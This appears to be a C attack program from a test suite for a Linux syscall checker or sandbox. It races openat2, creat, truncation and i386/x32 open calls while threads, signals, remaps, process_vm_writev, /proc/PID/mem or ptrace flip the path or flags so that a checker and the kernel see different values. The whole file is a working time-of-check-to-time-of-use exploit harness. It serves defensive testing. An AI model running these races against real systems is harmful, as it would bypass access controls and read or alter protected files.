// SPDX-License-Identifier: Apache-2.0
// attack_flip SECONDS ENOUGH CALL FLIPPER: makes the call again and again while somebody flips one word of its argument
// between what is allowed and what is not, so that a checker and the kernel read different ones.
//
// CALL is what reads the word, where that is not the path: the access of openat2 (flags), whether it asks for a path
// descriptor only (path-flag), or whether its path stays below a directory (resolve). FLIPPER is who writes it: a thread,
// a thread while a signal interrupts the caller a thousand times a second (storm), the handler of that signal (signal), a
// thread that maps other memory in its place (remap), a process that shares the memory (shared), one that uses
// process_vm_writev (vm), /proc/PID/mem (mem) or PTRACE_POKEDATA through another thread of the caller (ptrace).
#include "attack.h"
#include <linux/openat2.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

enum { I386_OPEN = 5, I386_CREAT = 8, I386_OPENAT = 295, I386_OPENAT2 = 437, X32_BIT = 0x40000000 };

// A page of memory that is shared, or private to the caller, depending on the flipper.
typedef struct {
  char path[64];
  struct open_how how;
} Arguments;

static Arguments *arguments;
static int directory; // /public

static int low(const void *pointer) { return (int)(uintptr_t)pointer; }

static Outcome by_open(void) { return opened(syscall(SYS_open, arguments->path, O_RDONLY)); }
static Outcome by_openat(void) { return opened(syscall(SYS_openat, AT_FDCWD, arguments->path, O_RDONLY)); }
static int openat2(int at) { return syscall(SYS_openat2, at, arguments->path, &arguments->how, sizeof arguments->how); }
static Outcome by_openat2(void) { return opened(openat2(AT_FDCWD)); }
static Outcome by_i386_open(void) { return opened(int80(I386_OPEN, low(arguments->path), O_RDONLY, 0, 0, 0)); }
static Outcome by_i386_openat(void) { return opened(int80(I386_OPENAT, AT_FDCWD, low(arguments->path), O_RDONLY, 0, 0)); }

static Outcome by_i386_openat2(void) {
  return opened(int80(I386_OPENAT2, AT_FDCWD, low(arguments->path), low(&arguments->how), sizeof arguments->how, 0));
}

static Outcome by_x32(void) { return opened(syscall(X32_BIT | SYS_openat, AT_FDCWD, arguments->path, O_RDONLY)); }

// Which of the two files was made; removes it.
static Outcome made(int fd) {
  if (fd >= 0) close(fd);
  if (unlink("/secret/made") == 0) return SUCCESS;
  return unlink("/public/made") == 0 ? HARMLESS : NOTHING;
}

static Outcome by_creat(void) { return made(syscall(SYS_creat, arguments->path, 0600)); }
static Outcome by_i386_creat(void) { return made(int80(I386_CREAT, low(arguments->path), 0600, 0, 0, 0)); }
static Outcome by_exclusive(void) { return made(open(arguments->path, O_WRONLY | O_CREAT | O_EXCL, 0600)); }

// Whether the file was emptied; fills it again through the descriptor that emptied it.
static Outcome emptied(int fd, const char *path) {
  Outcome outcome = is_empty(path) ? SUCCESS : fd < 0 ? NOTHING : HARMLESS;
  if (outcome == SUCCESS && write(fd, "text\n", 5) != 5) perror("fill the file again");
  if (fd >= 0) close(fd);
  return outcome;
}

static Outcome by_truncation(void) { return emptied(open(arguments->path, O_WRONLY | O_TRUNC), "/secret/log"); }
static Outcome by_flags(void) { return emptied(openat2(AT_FDCWD), arguments->path); }
// What O_PATH asks for when it is looked at may be a file to read when it is opened: the flags lie in memory, too.
static Outcome by_path_flag(void) { return opened(openat2(AT_FDCWD)); }

static Outcome by_resolve(void) { return opened(openat2(directory)); }

static const struct {
  const char *name;
  Outcome (*make)(void);
  const char *harmless, *forbidden; // the path; equal where a word of open_how is flipped
} CALLS[] = {
    {"open", by_open, DECOY, SECRET},
    {"openat", by_openat, DECOY, SECRET},
    {"openat2", by_openat2, DECOY, SECRET},
    {"creat", by_creat, "/public/made", "/secret/made"},
    {"exclusive", by_exclusive, "/public/made", "/secret/made"},
    {"truncation", by_truncation, "/public/log", "/secret/log"},
    {"flags", by_flags, "/guarded/file", "/guarded/file"},
    {"resolve", by_resolve, SECRET, SECRET}, // in the root that the descriptor is, or not
    {"path-flag", by_path_flag, "/tmp/link", "/tmp/link"},
    {"i386-open", by_i386_open, DECOY, SECRET},
    {"i386-openat", by_i386_openat, DECOY, SECRET},
    {"i386-openat2", by_i386_openat2, DECOY, SECRET},
    {"i386-creat", by_i386_creat, "/public/made", "/secret/made"},
    {"x32", by_x32, DECOY, SECRET},
};

static Outcome (*make)(void);
static volatile uint64_t *flipped;
static uint64_t values[2];

static void choose(const char *name) {
  for (unsigned index = 0; index < sizeof CALLS / sizeof *CALLS; index++) {
    if (strcmp(CALLS[index].name, name) != 0) continue;
    make = CALLS[index].make;
    strcpy(arguments->path, CALLS[index].harmless);
    flipped = (uint64_t *)arguments->path;
    values[0] = first_word(CALLS[index].harmless);
    values[1] = first_word(CALLS[index].forbidden);
  }
  require(make != NULL, "choose a call");
  if (make == by_flags) {
    flipped = (uint64_t *)&arguments->how.flags;
    values[0] = O_RDONLY;
    values[1] = O_WRONLY | O_TRUNC;
  }
  if (make == by_path_flag) {
    symlink("/proc/self/root" SECRET, "/tmp/link");
    flipped = (uint64_t *)&arguments->how.flags;
    values[0] = O_PATH;
    values[1] = O_RDONLY;
  }
  if (make == by_resolve) {
    flipped = (uint64_t *)&arguments->how.resolve;
    values[0] = RESOLVE_IN_ROOT;
    values[1] = 0;
  }
  *flipped = values[0];
}

static void call(void) {
  while (!is_over()) count(make());
}

static void *store(void *unused) {
  while (!attack->over)
    for (int turn = 0; turn < 1000; turn++) *flipped = values[turn & 1];
  return unused;
}

static void by_thread(void) {
  start_thread(store, NULL);
  call();
}

static void turn_word(int signal) {
  static int turn;
  (void)signal;
  *flipped = values[turn ^= 1];
}

static void ignore(int signal) { (void)signal; }

static void signal_often(void (*handler)(int)) {
  struct sigaction action = {.sa_handler = handler, .sa_flags = SA_RESTART};
  sigaction(SIGALRM, &action, NULL);
  struct itimerval millisecond = {{0, 1000}, {0, 1000}};
  setitimer(ITIMER_REAL, &millisecond, NULL);
}

// Only the caller is to be interrupted.
static void *store_undisturbed(void *unused) {
  sigset_t all;
  sigfillset(&all);
  pthread_sigmask(SIG_BLOCK, &all, NULL);
  return store(unused);
}

static void by_storm(void) {
  start_thread(store_undisturbed, NULL);
  signal_often(ignore);
  call();
}

static void by_handler(void) {
  signal_often(turn_word);
  call();
}

enum { PAGE = 4096 };
static int pages; // a file of two pages, with either word

static void *remap(void *unused) {
  for (int turn = 0; !attack->over; turn ^= 1)
    mmap(arguments, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED, pages, turn * PAGE);
  return unused;
}

static void by_remapping(void) {
  pages = memfd_create("pages", MFD_CLOEXEC);
  for (int turn = 0; turn < 2; turn++) {
    *flipped = values[turn];
    require(pwrite(pages, arguments, PAGE, turn * PAGE) == PAGE, "write a page");
  }
  start_thread(remap, NULL);
  call();
}

static void by_sharing(void) {
  pid_t child = fork();
  if (child == 0) {
    store(NULL);
    _exit(0);
  }
  call();
  attack->over = 1;
  waitpid(child, NULL, 0);
}

static pid_t victim, sleeper; // the process that calls; a thread of it that only sleeps

static int by_vm(uint64_t *value) {
  struct iovec local = {value, sizeof *value}, remote = {(void *)flipped, sizeof *value};
  return process_vm_writev(victim, &local, 1, &remote, 1, 0) == sizeof *value;
}

static int by_memory_file(uint64_t *value) {
  static int memory = -1;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", victim);
  if (memory < 0) memory = open(path, O_RDWR);
  return pwrite(memory, value, sizeof *value, (off_t)(uintptr_t)flipped) == sizeof *value;
}

static int by_poke(uint64_t *value) {
  static int stopped;
  if (!stopped) {
    require(ptrace(PTRACE_SEIZE, sleeper, 0, 0) == 0, "trace");
    require(ptrace(PTRACE_INTERRUPT, sleeper, 0, 0) == 0, "stop the thread");
    require(waitpid(sleeper, NULL, __WALL) == sleeper, "wait for the thread's stop");
    stopped = 1;
  }
  return ptrace(PTRACE_POKEDATA, sleeper, (void *)flipped, (void *)*value) == 0;
}

static void *sleep_for_ever(void *place) {
  *(atomic_int *)place = (int)syscall(SYS_gettid);
  for (;;) pause();
  return place;
}

// The child calls on its private memory, the parent writes into it.
static void from_outside(int (*write_word)(uint64_t *)) {
  atomic_int *thread = shared_memory(sizeof *thread);
  victim = fork();
  if (victim == 0) {
    start_thread(sleep_for_ever, (void *)thread);
    call();
    attack->over = 1;
    _exit(0);
  }
  while (*thread == 0) usleep(100);
  sleeper = *thread;
  for (int turn = 0; !attack->over; turn ^= 1)
    if (!write_word(&values[turn]) && !attack->over) {
      perror("write into the caller's memory");
      break;
    }
  kill(victim, SIGKILL);
  while (waitpid(-1, NULL, __WALL) > 0) {}
}

int main(int argc, char **argv) {
  begin(argc, argv);
  const char *flipper = word(argc, argv, 1);
  int sharing = strcmp(flipper, "shared") == 0 ? MAP_SHARED : MAP_PRIVATE;
  arguments = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, sharing | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  require(arguments != MAP_FAILED, "map the arguments");
  directory = open("/public", O_RDONLY | O_DIRECTORY);
  choose(word(argc, argv, 0));
  if (make == by_x32 && syscall(X32_BIT | SYS_openat, AT_FDCWD, DECOY, O_RDONLY) < 0 && errno == ENOSYS)
    return unavailable("the kernel has no x32 entry");
  if (strcmp(flipper, "thread") == 0) by_thread();
  if (strcmp(flipper, "storm") == 0) by_storm();
  if (strcmp(flipper, "signal") == 0) by_handler();
  if (strcmp(flipper, "remap") == 0) by_remapping();
  if (strcmp(flipper, "shared") == 0) by_sharing();
  if (strcmp(flipper, "vm") == 0) from_outside(by_vm);
  if (strcmp(flipper, "mem") == 0) from_outside(by_memory_file);
  if (strcmp(flipper, "ptrace") == 0) from_outside(by_poke);
  return finish();
}
